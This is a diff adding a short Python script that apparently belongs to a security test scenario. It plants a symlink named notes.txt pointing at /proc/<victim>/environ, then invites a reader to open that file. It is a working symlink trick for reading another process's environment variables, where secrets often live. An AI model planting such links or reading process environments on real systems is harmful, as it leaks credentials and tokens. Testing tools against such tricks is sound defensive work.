@@ -1,0 +1,10 @@
+"""Leaves a link through /proc that means another place for each reader.
+
+Then: read notes.txt
+"""
+
+import os
+
+from stage import at
+
+os.symlink(f"/proc/{at.victim}/environ", "notes.txt")
